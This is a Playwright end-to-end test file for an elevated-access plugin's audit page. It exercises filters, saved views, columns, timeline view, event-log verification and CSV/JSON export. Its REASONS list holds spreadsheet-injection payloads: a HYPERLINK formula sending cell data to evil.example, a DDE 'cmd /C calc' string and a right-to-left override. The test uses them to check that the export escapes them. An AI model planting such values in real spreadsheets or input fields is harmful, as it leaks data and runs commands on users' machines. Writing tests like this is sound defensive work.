/*
 * Copyright 2026 The Elevated Access Authors
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

import type { Download, Page } from '@playwright/test';
import type { AccessRequest } from 'backstage-plugin-elevated-access-common';
import { readFile } from 'node:fs/promises';
import { expect, test } from './fixtures';
import { expectNoBarriers, expectNoSidewaysScroll } from './support/barriers';
import { readCsv } from './support/csv';
import { Person } from './support/Person';

// A day of somebody who audits. What Hana asks for is what Dana looks for.

/** Reasons that a spreadsheet would run, tear apart or turn around. */
const REASONS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  'Said "no, never",\nand meant it; \u202Etxet',
];

test.afterEach(async ({ system }) => {
  const eli = await Person.signIn(system.portalUrl, 'Eli Stone');
  await eli.endEverythingOf('Hana Sato');
});

/** One ended access and some cancelled requests, all with tickets that begin alike. */
async function makeHistory(
  hana: Person,
  ticket: string,
): Promise<AccessRequest[]> {
  const wish = { permissionSet: 'ReadOnly', minutes: 30 };
  const [first, ...others] = await Promise.all(
    REASONS.map((reason, index) =>
      hana.ask({
        ...wish,
        account: ['web-prod', 'mobile-prod', 'fraud-prod', 'cards-prod'][index],
        reason,
        ticket: `${ticket}${index}`,
      }),
    ),
  );
  await Promise.all(
    others.map(({ id }) => hana.api.cancel(id, { comment: '' })),
  );
  return [first, ...others];
}

/** The browser asks for no place, so that the file arrives as a download. */
async function withoutFilePicker(page: Page): Promise<void> {
  await page.addInitScript(() =>
    Object.assign(window, { showSaveFilePicker: undefined }),
  );
}

async function textOf(download: Download): Promise<string> {
  return readFile(await download.path(), 'utf8');
}

async function exportAs(page: Page, format: RegExp): Promise<string> {
  await page.getByRole('button', { name: 'Export' }).click();
  const dialog = page.getByRole('dialog', {
    name: 'Export what the question finds',
  });
  await dialog.getByRole('radio', { name: format }).check({ force: true });
  await expectNoBarriers(page);
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    dialog.getByRole('button', { name: 'Export' }).click(),
  ]);
  await expect(dialog).toContainText(`${REASONS.length} rows exported.`);
  await dialog.getByRole('button', { name: 'Close' }).last().click();
  return textOf(download);
}

test('asks a question, comes back to it, looks at it in every shape and takes all of it away', async ({
  signInAs,
  person,
}) => {
  const requests = await makeHistory(await person('Hana Sato'), 'AUD-4');
  const ids = requests.map(({ id }) => id).sort();
  await (await person('Eli Stone')).approve(requests[0], 'For the audit');

  const dana = await signInAs('Dana Roy');
  await withoutFilePicker(dana);
  await dana.goto('/elevated-access/audit');
  await expectNoBarriers(dana);

  // A filter is part of the address: it outlives a reload, and can be shared.
  await dana.getByRole('button', { name: 'Add filter' }).click();
  await dana.getByRole('menuitem', { name: 'Ticket' }).click();
  await dana.getByRole('textbox', { name: /^Ticket/ }).fill('AUD-4');
  await expectNoBarriers(dana);
  await dana.getByRole('button', { name: 'Apply' }).click();
  const chip = (page: Page) =>
    page
      .getByRole('grid', { name: 'Filters' })
      .getByRole('row', { name: 'Ticket: AUD-4' });
  const rows = (page: Page) =>
    page.getByRole('main').getByRole('row').filter({ hasText: 'Hana Sato' });
  await expect(chip(dana)).toBeVisible();
  await expect(rows(dana)).toHaveCount(REASONS.length);
  await expect(dana).toHaveURL(/ticket=AUD-4/);
  await dana.reload();
  await expect(chip(dana)).toBeVisible();
  await expect(rows(dana)).toHaveCount(REASONS.length);
  await dana.getByRole('button', { name: 'Count them' }).click();
  await expect(
    dana.getByText(`${REASONS.length} requests`, { exact: true }),
  ).toBeVisible();
  const shared = dana.url();

  // A view of one's own leads back to it.
  await dana.getByRole('button', { name: 'Views' }).click();
  await dana.getByRole('menuitem', { name: 'Save this view…' }).click();
  await dana
    .getByRole('textbox', { name: 'Name' })
    .fill('Tickets of the audit');
  await expectNoBarriers(dana);
  await dana.getByRole('button', { name: 'Save', exact: true }).click();
  await dana.getByRole('button', { name: 'Views' }).click();
  await dana.getByRole('menuitem', { name: 'Everything' }).click();
  await expect(chip(dana)).toHaveCount(0);
  await dana.getByRole('button', { name: 'Views' }).click();
  await dana.getByRole('menuitem', { name: 'Tickets of the audit' }).click();
  await expect(chip(dana)).toBeVisible();
  await expect(dana).toHaveURL(/ticket=AUD-4/);

  // Columns.
  await expect(dana.getByRole('columnheader', { name: 'Ticket' })).toHaveCount(
    0,
  );
  await dana.getByRole('button', { name: 'Columns' }).click();
  await dana.getByRole('option', { name: 'Ticket' }).click();
  await dana.getByRole('option', { name: 'Reason' }).click();
  await dana.keyboard.press('Escape');
  await expect(
    dana.getByRole('columnheader', { name: 'Ticket' }),
  ).toBeVisible();
  await expect(rows(dana).filter({ hasText: 'AUD-40' })).toContainText(
    REASONS[0],
  );
  await expectNoBarriers(dana);

  // Everything that was found, in a file.
  const csv = readCsv(await exportAs(dana, /^CSV/));
  expect(csv.map(row => row.id).sort()).toEqual(ids);
  for (const [index, reason] of REASONS.entries()) {
    const row = csv.find(({ id }) => id === requests[index].id);
    expect(row?.reason).toBe(index < 3 ? `'${reason}` : reason);
  }
  const lines = (await exportAs(dana, /^JSON Lines/)).trimEnd().split('\n');
  const objects: Array<{ id: string; reason: string }> = lines.map(line =>
    JSON.parse(line),
  );
  expect(objects.map(({ id }) => id).sort()).toEqual(ids);
  expect(objects.map(({ reason }) => reason).sort()).toEqual(
    [...REASONS].sort(),
  );

  // As a timeline, in the dark; the address says it too.
  await dana.emulateMedia({ colorScheme: 'dark' });
  await dana.getByRole('radio', { name: 'Timeline' }).click();
  await expect(
    dana.getByRole('group', { name: /^Access over time/ }),
  ).toBeVisible();
  await expect(dana.getByRole('toolbar', { name: 'Hana Sato' })).toBeVisible();
  await expect(dana).toHaveURL(/as=timeline/);
  await expectNoBarriers(dana);
  await dana.getByRole('button', { name: 'The same as a table' }).click();
  await expect(rows(dana).first()).toBeVisible();
  await expectNoBarriers(dana);

  // Who gets the address sees what they may see of it, on a phone as well.
  const hana = await signInAs('Hana Sato', {
    viewport: { width: 360, height: 740 },
  });
  await hana.goto(shared);
  await expect(chip(hana)).toBeVisible();
  await expect(rows(hana)).toHaveCount(REASONS.length);
  await expectNoBarriers(hana);
  await expectNoSidewaysScroll(hana);
});

test('proves the event log and takes it away', async ({ signInAs }) => {
  const dana = await signInAs('Dana Roy');
  await withoutFilePicker(dana);
  await dana.goto('/elevated-access/audit/event-log');
  await dana.getByRole('button', { name: 'Verify now' }).click();
  await expect(dana.getByText(/^The log is intact: \d+ events/)).toBeVisible();
  await expectNoBarriers(dana);

  const [download] = await Promise.all([
    dana.waitForEvent('download'),
    dana.getByRole('button', { name: 'Export the log' }).click(),
  ]);
  await expect(dana.getByText(/rows? exported/)).toBeVisible();
  const events: Array<{ seq: number }> = (await textOf(download))
    .trimEnd()
    .split('\n')
    .map(line => JSON.parse(line));
  expect(events.length).toBeGreaterThan(0);
  expect(events.map(({ seq }) => seq)).toEqual(
    events.map((_, index) => index + 1),
  );
});

test('says to who is no auditor that they see only their own', async ({
  signInAs,
}) => {
  const gita = await signInAs('Gita Rao');
  await gita.goto('/elevated-access/audit');
  await expect(
    gita.getByText(
      'You see your own requests and those that you may decide or have decided.',
    ),
  ).toBeVisible();
  await expect(
    gita.getByRole('row').filter({ hasText: 'Hana Sato' }),
  ).toHaveCount(0);
  await expectNoBarriers(gita);

  await gita.getByRole('tab', { name: 'Event log' }).click();
  await expect(
    gita.getByText(
      'Only auditors and administrators may verify and export the event log.',
    ),
  ).toBeVisible();
  await expect(gita.getByRole('button', { name: 'Verify now' })).toHaveCount(0);
  await expectNoBarriers(gita);
});
